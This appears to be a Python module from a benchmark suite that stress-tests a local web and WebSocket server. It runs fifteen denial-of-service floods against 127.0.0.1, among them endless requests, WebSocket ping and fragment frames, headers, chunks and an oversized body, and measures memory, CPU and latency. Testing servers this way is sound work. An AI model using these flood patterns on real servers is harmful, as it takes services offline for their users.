"""Ten connections that send endless requests, frames or headers at a limited rate, each from its own address."""

import argparse
import asyncio
import base64
import os
import socket
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from bench.attacks.victim import READY, VICTIM, Target, Watch, guest, watching

SETTINGS: dict[str, str] = {}
MEMORY: float = 600.0  # MB at which the attack ends
_PIECE = 64 * 1024  # bytes of a write
_FULL = 0.01  # seconds before the next write to a full buffer
_AGAIN = 0.05  # seconds before a closed connection is opened again


@dataclass(frozen=True)
class Flood:
    """The bytes that a connection sends: ``opening`` once, then ``unit`` endlessly. Without ``reads``, the connection
    reads no answers.
    """

    opening: str
    unit: bytes
    reads: bool = True


def frame(opcode: int, data: bytes = b"", fin: int = 0x80) -> bytes:
    """A masked frame with mask 0."""
    return bytes([fin | opcode, 0x80 | len(data), 0, 0, 0, 0]) + data


REQUEST = b"GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
HEAD = "{} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
CHUNKED = HEAD.format("POST /api/replay") + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
UPGRADE = HEAD + "Connection: Upgrade\r\nUpgrade: {}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {}\r\n\r\n"
SOCKET = UPGRADE.format("GET /api/tables/TABLE/socket", "websocket", base64.b64encode(bytes(16)).decode())

FLOODS = {
    "requests": Flood("", REQUEST),
    "unread requests": Flood("", REQUEST, reads=False),
    "pings": Flood(SOCKET, frame(9)),
    "unread pings": Flood(SOCKET, frame(9, bytes(125)), reads=False),
    "pongs": Flood(SOCKET, frame(10)),
    "fragments": Flood(SOCKET, frame(1, b'"', 0) + frame(0, b"", 0) * 10_000),
    "messages": Flood(SOCKET, frame(1, b"{}")),
    "headers": Flood(HEAD.format("GET /livez"), b"a: b\r\n"),
    "header value": Flood(HEAD.format("GET /livez") + "a: ", b"b"),
    "address": Flood("GET /", b"a"),
    "chunks": Flood(CHUNKED, b"1\r\na\r\n"),
    "trailers": Flood(CHUNKED + "1\r\na\r\n0\r\n", b"a: b\r\n"),
    "body": Flood(HEAD.format("POST /api/replay") + "Content-Length: 1000000000000\r\n\r\n", b"a"),
    "blank lines": Flood("", b"\r\n"),
    "other upgrade": Flood(UPGRADE.format("GET /livez", "other", "a"), b"a"),
}


def arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--kinds", nargs="*", choices=FLOODS, default=list(FLOODS))
    parser.add_argument("--connections", type=int, default=10, help="each from its own loopback address")
    parser.add_argument("--rate", type=float, default=1.25e6, help="bytes per second of a connection")
    parser.add_argument("--lasts", type=float, default=10.0, help="seconds of each kind")
    parser.add_argument("--port", type=int, default=0, help="the port that is attacked, of a proxy")


class Flooder(threading.Thread):
    """One attacking connection, which is reopened whenever it is closed. Counts connections and megabytes sent."""

    def __init__(self, port: int, source: str, opening: bytes, flood: Flood, rate: float) -> None:
        super().__init__(daemon=True)
        self._port, self._source, self._opening, self._flood, self._rate = port, source, opening, flood, rate
        self._unit = flood.unit * max(1, _PIECE // len(flood.unit))
        self.ended = threading.Event()
        self.opened = self.sent = 0

    def run(self) -> None:
        while not self.ended.is_set():
            with suppress(OSError), socket.socket() as plain:
                if not self._flood.reads:
                    plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                plain.bind((self._source, 0))
                plain.settimeout(READY)
                plain.connect(("127.0.0.1", self._port))
                self.opened += 1
                plain.sendall(self._opening)
                if self._opening.startswith(SOCKET[:12].encode()):
                    plain.recv(64)
                plain.setblocking(False)
                self._send(plain)
            self.ended.wait(_AGAIN)

    def _send(self, plain: socket.socket) -> None:
        began, sent = time.monotonic(), 0
        while not self.ended.is_set():
            at = sent % len(self._unit)
            size = 0
            with suppress(BlockingIOError):
                size = plain.send(self._unit[at:])
            sent += size
            self.sent += size
            if self._flood.reads and not _read(plain):
                return
            pause = began + sent / self._rate - time.monotonic()
            self.ended.wait(max(pause, 0.0 if size else _FULL))


def _read(plain: socket.socket) -> bool:
    """Read the received bytes. Returns whether the connection is open."""
    with suppress(BlockingIOError):
        while plain.recv(1 << 16):
            pass
        return False
    return True


async def attack(target: Target, wanted: argparse.Namespace) -> dict[str, Any]:
    async with guest(target, VICTIM) as host:
        wish = {"game": "fzzt", "seats": [{"kind": "me"}, {"kind": "me"}], "access": "open"}
        table = (await host.post("api/tables", json=wish)).raise_for_status().json()["id"]
    port = wanted.port or int(target.address.strip("/").rsplit(":", 1)[1])
    found: dict[str, Any] = {"memory_mb_before": round(target.memory)}
    for kind in wanted.kinds:
        flood = FLOODS[kind]
        opening = flood.opening.replace("TABLE", table).encode()
        sources = [f"127.0.0.{2 + number}" for number in range(wanted.connections)]
        flooders = [Flooder(port, source, opening, flood, wanted.rate) for source in sources]
        async with watching(target, "livez") as watch:
            found[kind] = await once(target, flooders, watch, wanted.lasts)
    return found


async def once(target: Target, flooders: list[Flooder], watch: Watch, seconds: float) -> dict[str, Any]:
    """One kind of attack: the waits of another client, and the server's memory and processor time."""
    await until(lambda: len(watch.waits) > 10, READY)
    watch.begin()
    spent, began = processor(target.pid), time.monotonic()
    for flooder in flooders:
        flooder.start()
    most = 0.0

    def stop() -> bool:
        nonlocal most
        most = max(most, target.memory)
        return most > MEMORY

    await until(stop, seconds)
    lasted, cores = time.monotonic() - began, processor(target.pid) - spent
    for flooder in flooders:
        flooder.ended.set()
    answered = len(watch.waits)
    await until(lambda: len(watch.waits) > answered, READY)  # the wait in progress counts
    return {
        "memory_mb": round(most),
        "get_ms": watch.spread(),
        "gets": answered,
        "server_cores": round(cores / lasted, 2),
        "connections": sum(flooder.opened for flooder in flooders),
        "sent_mb": round(sum(flooder.sent for flooder in flooders) / 1e6, 1),
    }


def processor(pid: int) -> float:
    """Processor seconds of a process."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


async def until(condition: Callable[[], bool], seconds: float) -> None:
    """Wait for a condition, for a limited number of seconds."""
    end = time.monotonic() + seconds
    while not condition() and time.monotonic() < end:  # noqa: ASYNC110 - no event for this
        await asyncio.sleep(0.1)
